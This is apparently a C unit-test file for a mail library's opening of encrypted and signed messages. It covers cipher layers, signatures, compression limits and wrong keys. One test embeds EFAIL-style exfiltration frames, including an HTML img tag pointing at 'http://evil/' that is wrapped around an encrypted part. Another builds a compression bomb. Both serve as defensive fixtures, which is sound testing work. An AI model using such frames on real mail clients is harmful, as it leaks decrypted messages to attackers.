/* Layers behind an encrypted one, opened with its content key. */
#include "core/base/error.h"
#include "tests/mail/open_test.h"

#define CBC " encrypted:aes256-cbc:-"
#define GCM " encrypted:aes256-gcm:-"
#define SIGNED " signed:ecdsa-sha256:verified"

static GBytes *
signed_text(const People *people, const char *who)
{
    return sign(people, who, ENTITY, NULL);
}

static void
state_of_an_opened_message(void **state)
{
    static const struct {
        const char *name, *signer, *cipher, *want;
        gboolean covered, text_only;
    } cases[] = {
        {"GCM around a signature", "claire", "-aes-256-gcm",
         "confidential verified encrypted []" GCM SIGNED, TRUE, FALSE},
        {"CBC around a signature", "claire", "-aes256",
         "confidential verified encrypted []" CBC SIGNED, TRUE, FALSE},
        {"GCM alone", NULL, "-aes-256-gcm",
         "encrypted-unverified none encrypted []" GCM, TRUE, FALSE},
        {"sec_30: CBC alone", NULL, "-aes256",
         "encrypted-unverified none encrypted []" CBC, FALSE, TRUE},
        {"sec_31: 3DES around a signature", "claire", "-des3",
         "unprotected verified weak [weak-encryption]"
         " encrypted:3des-cbc:-" SIGNED,
         TRUE, FALSE},
        {"sec_31: 3DES alone", NULL, "-des3",
         "unprotected none weak [weak-encryption] encrypted:3des-cbc:-",
         FALSE, TRUE},
        {"another's signature", "robert", "-aes256",
         "unprotected address-mismatch encrypted [address-mismatch]" CBC
         " signed:rsa-sha256:address-mismatch",
         FALSE, TRUE},
        {"a stranger's signature, GCM", "etranger", "-aes-256-gcm",
         "unprotected unknown-issuer encrypted"
         " [unknown-issuer,address-mismatch]" GCM
         " signed:ecdsa-sha256:unknown-issuer",
         TRUE, FALSE},
    };
    People *people = *state;
    for (gsize i = 0; i < G_N_ELEMENTS(cases); i++) {
        g_autoptr(GBytes) inner = cases[i].signer == NULL
                                      ? text_bytes(ENTITY)
                                      : signed_text(people, cases[i].signer);
        g_autoptr(GBytes) body = seal(people, inner, cases[i].cipher);
        expect_opened(people, cases[i].name, body, cases[i].want);
        g_autoptr(GBytes) message = message_of(people, CLAIRE, body);
        g_autoptr(Judgement) got = judge_opened(people, message);
        if (got->covered != cases[i].covered ||
            got->text_only != cases[i].text_only || !got->opened)
            fail_msg("%s: covered %d, text only %d", cases[i].name,
                     got->covered, got->text_only);
    }
}

static GBytes *
sign_entity(const People *people, const char *who, GBytes *entity,
            const char *more)
{
    g_autofree char *text = text_of(entity);
    return sign(people, who, text, more, NULL);
}

static void
triple_wraps_are_judged_by_what_is_inside(void **state)
{
    People *people = *state;
    g_autoptr(GBytes) inner = signed_text(people, "claire");
    g_autoptr(GBytes) sealed = seal(people, inner, "-aes256");
    g_autoptr(GBytes) triple = sign_entity(people, "claire", sealed, NULL);
    expect_opened(people, "triple", triple,
                  "confidential verified encrypted []" SIGNED CBC SIGNED);

    g_autoptr(GBytes) opaque =
        sign(people, "claire", ENTITY, "-nodetach", NULL);
    g_autoptr(GBytes) in_gcm = seal(people, opaque, "-aes-256-gcm");
    g_autoptr(GBytes) all_opaque =
        sign_entity(people, "claire", in_gcm, "-nodetach");
    expect_opened(people, "triple, opaque", all_opaque,
                  "confidential verified encrypted []" SIGNED GCM SIGNED);

    g_autoptr(GBytes) by_other = sign_entity(people, "robert", sealed, NULL);
    expect_opened(people, "outer by another", by_other,
                  "unprotected address-mismatch encrypted [address-mismatch]"
                  " signed:rsa-sha256:address-mismatch" CBC SIGNED);
}

static void
a_signature_outside_does_not_vouch_for_what_is_inside(void **state)
{
    People *people = *state;
    g_autoptr(GBytes) sealed = seal_text(people, ENTITY, "-aes256");
    g_autoptr(GBytes) body = sign_entity(people, "claire", sealed, NULL);
    expect_opened(people, "signed outside", body,
                  "encrypted-unverified none encrypted []" SIGNED CBC);
    g_autoptr(GBytes) message = message_of(people, CLAIRE, body);
    g_autoptr(Judgement) got = judge_opened(people, message);
    assert_null(got->signer);
    assert_null(got->fingerprint);
    assert_true(got->text_only);
}

static void
compressed_layers_come_off(void **state)
{
    People *people = *state;
    g_autoptr(GBytes) text = text_bytes(ENTITY);
    g_autoptr(GBytes) packed = compress(people, text);
    g_autoptr(GBytes) signed_packed =
        sign_entity(people, "claire", packed, NULL);
    g_autoptr(GBytes) sealed = seal(people, signed_packed, "-aes256");
    expect_opened(people, "signed, compressed", sealed,
                  "confidential verified encrypted []" CBC SIGNED
                  " compressed:zlib:-");

    g_autoptr(GBytes) inner = signed_text(people, "claire");
    g_autoptr(GBytes) packed_signed = compress(people, inner);
    g_autoptr(GBytes) body = seal(people, packed_signed, "-aes-256-gcm");
    expect_opened(people, "compressed, signed", body,
                  "confidential verified encrypted []" GCM
                  " compressed:zlib:-" SIGNED);
}

static void
sec_03_one_compressed_layer_within_bounds(void **state)
{
    People *people = *state;
    g_autoptr(GBytes) text = text_bytes(ENTITY);
    g_autoptr(GBytes) once = compress(people, text);
    g_autoptr(GBytes) twice = compress(people, once);
    g_autoptr(GBytes) message = message_of(people, CLAIRE, twice);
    g_autoptr(Judgement) got = judge_with(people, message, NULL, NULL);
    g_autofree char *said = said_of(got);
    assert_string_equal(said, "unprotected none none [] compressed:zlib:-"
                              " compressed:zlib:-");
    g_autofree char *payload = text_of(got->payload);
    assert_null(strstr(payload, "Hello Alice"));

    g_autofree char *zeros = g_malloc0(8 * 1024 * 1024);
    g_autoptr(GBytes) large = g_bytes_new(zeros, 8 * 1024 * 1024);
    g_autoptr(GBytes) bomb = compress(people, large);
    g_autoptr(GBytes) from = message_of(people, CLAIRE, bomb);
    g_autoptr(GError) error = NULL;
    assert_null(judge_with(people, from, NULL, &error));
    assert_int_equal(app_error_code(error), APP_ERROR_TOO_LARGE);
}

#define MIXED(a, b)                                                          \
    "Content-Type: multipart/mixed; boundary=m\r\n\r\n--m\r\n%s\r\n--m\r\n"  \
    "Content-Type: text/plain\r\n\r\n" b "\r\n--m--\r\n"

static void
sec_19_errant_layers_stay_unprotected(void **state)
{
    People *people = *state;
    g_autoptr(GBytes) inner = signed_text(people, "claire");
    g_autofree char *text = text_of(inner);
    g_autofree char *footer = g_strdup_printf(MIXED(, "the list"), text);
    g_autofree char *forwarded = g_strdup_printf(
        "Content-Type: message/rfc822\r\n\r\n" CLAIRE "%s", text);
    g_autofree char *deep = g_strdup_printf(MIXED(, "and"), footer);
    const struct {
        const char *name, *entity;
    } cases[] = {
        {"list footer", footer},
        {"forwarded", forwarded},
        {"two deep", deep},
    };
    for (gsize i = 0; i < G_N_ELEMENTS(cases); i++) {
        g_autoptr(GBytes) body =
            seal_text(people, cases[i].entity, "-aes-256-gcm");
        expect_opened(people, cases[i].name, body,
                      "unprotected none encrypted [errant-layer]" GCM);
    }
}

/* EFAIL's direct shapes: an encrypted part among parts of the attacker. */
static void
sec_34_an_encrypted_part_among_others_is_never_opened(void **state)
{
    static const char *const frames[] = {
        "Content-Type: multipart/mixed; boundary=m\r\n\r\n--m\r\n"
        "Content-Type: text/html\r\n\r\n<img src=\"http://evil/\r\n"
        "--m\r\n%s\r\n--m\r\nContent-Type: text/html\r\n\r\n\">\r\n"
        "--m--\r\n",
        "Content-Type: multipart/alternative; boundary=m\r\n\r\n--m\r\n"
        "Content-Type: text/plain\r\n\r\nx\r\n--m\r\n%s\r\n--m--\r\n",
        "Content-Type: multipart/related; boundary=m\r\n\r\n--m\r\n"
        "Content-Type: text/html\r\n\r\n<img src=cid:a>\r\n--m\r\n%s\r\n"
        "--m--\r\n",
        "Content-Type: message/rfc822\r\n\r\nFrom: a@b\r\n%s",
        "Content-Type: multipart/digest; boundary=m\r\n\r\n--m\r\n\r\n"
        "From: a@b\r\n%s\r\n--m--\r\n",
    };
    People *people = *state;
    g_autoptr(GBytes) sealed = seal_text(people, ENTITY, "-aes256");
    g_autofree char *text = text_of(sealed);
    g_autoptr(GBytes) key = content_key_of(people, "alice", sealed);
    for (gsize i = 0; i < G_N_ELEMENTS(frames); i++) {
        g_auto(GStrv) ends = g_strsplit(frames[i], "%s", 2);
        g_autofree char *entity = g_strconcat(ends[0], text, ends[1], NULL);
        g_autoptr(GBytes) body = text_bytes(entity);
        g_autoptr(GBytes) message = message_of(people, CLAIRE, body);
        g_autoptr(Judgement) got = judge_with(people, message, key, NULL);
        g_autofree char *said = said_of(got);
        assert_string_equal(said, "unprotected none none [errant-layer]");
        assert_false(got->opened);
        gsize size;
        const char *payload = g_bytes_get_data(got->payload, &size);
        assert_null(memmem(payload, size, "Hello Alice", 11));
    }
}

static void
layers_behind_layers(void **state)
{
    People *people = *state;
    g_autoptr(GBytes) inner = seal_text(people, ENTITY, "-aes256");
    g_autoptr(GBytes) twice = seal(people, inner, "-aes-256-gcm");
    expect_opened(people, "encrypted twice", twice,
                  "encrypted-locked none encrypted []" GCM CBC);

    g_autoptr(GBytes) signed_once = signed_text(people, "claire");
    g_autoptr(GBytes) signed_twice =
        sign_entity(people, "claire", signed_once, "-nodetach");
    g_autoptr(GBytes) body = seal(people, signed_twice, "-aes256");
    expect_opened(people, "signed twice", body,
                  "confidential verified encrypted []" CBC SIGNED SIGNED);

    g_autoptr(GBytes) packed = compress(people, signed_twice);
    g_autoptr(GBytes) sealed = seal(people, packed, "-aes256");
    g_autoptr(GBytes) fifth = sign_entity(people, "claire", sealed, NULL);
    g_autoptr(GBytes) message = message_of(people, CLAIRE, fifth);
    g_autoptr(GBytes) key = content_key_of(people, "alice", message);
    g_autoptr(GError) error = NULL;
    assert_null(judge_with(people, message, key, &error));
    assert_int_equal(app_error_code(error), APP_ERROR_TOO_COMPLEX);
}

static void
sec_27_every_wrong_key_is_refused_alike(void **state)
{
    static const char *const ciphers[] = {"-aes256", "-aes-256-gcm", "-des3"};
    static const gsize sizes[] = {0, 1, 16, 24, 32, 33};
    People *people = *state;
    for (gsize i = 0; i < G_N_ELEMENTS(ciphers); i++) {
        g_autoptr(GBytes) body = seal_text(people, ENTITY, ciphers[i]);
        g_autoptr(GBytes) message = message_of(people, CLAIRE, body);
        for (gsize j = 0; j < G_N_ELEMENTS(sizes); j++) {
            guint8 wrong[33] = {7};
            g_autoptr(GBytes) key = g_bytes_new(wrong, sizes[j]);
            g_autoptr(GError) error = NULL;
            g_autoptr(Judgement) got =
                judge_with(people, message, key, &error);
            /* One wrong key of 256 makes a padding of CBC, and nothing. */
            if (got != NULL && i != 1 && got->text_only)
                continue;
            assert_null(got);
            assert_int_equal(app_error_code(error), APP_ERROR_MALFORMED);
            assert_string_equal(error->message,
                                "message: cannot be decrypted");
        }
    }
}

static void
sec_29_envelope_is_known_by_its_key_and_its_content(void **state)
{
    People *people = *state;
    g_autoptr(GBytes) body = seal_text(people, ENTITY, "-aes256");
    g_autoptr(GBytes) message = message_of(people, CLAIRE, body);
    g_autoptr(Judgement) got = judge_opened(people, message);
    assert_int_equal(got->key_hashes->len, 1);
    assert_int_equal(strlen(got->content_hash), 64);
    g_autoptr(Judgement) locked = judge_with(people, message, NULL, NULL);
    assert_null(locked->key_hashes);
    assert_non_null(locked->enveloped);
    assert_null(got->enveloped);
}

int
main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(state_of_an_opened_message),
        cmocka_unit_test(triple_wraps_are_judged_by_what_is_inside),
        cmocka_unit_test(
            a_signature_outside_does_not_vouch_for_what_is_inside),
        cmocka_unit_test(compressed_layers_come_off),
        cmocka_unit_test(sec_03_one_compressed_layer_within_bounds),
        cmocka_unit_test(sec_19_errant_layers_stay_unprotected),
        cmocka_unit_test(
            sec_34_an_encrypted_part_among_others_is_never_opened),
        cmocka_unit_test(layers_behind_layers),
        cmocka_unit_test(sec_27_every_wrong_key_is_refused_alike),
        cmocka_unit_test(sec_29_envelope_is_known_by_its_key_and_its_content),
    };
    return cmocka_run_group_tests(tests, people_set_up, people_tear_down);
}
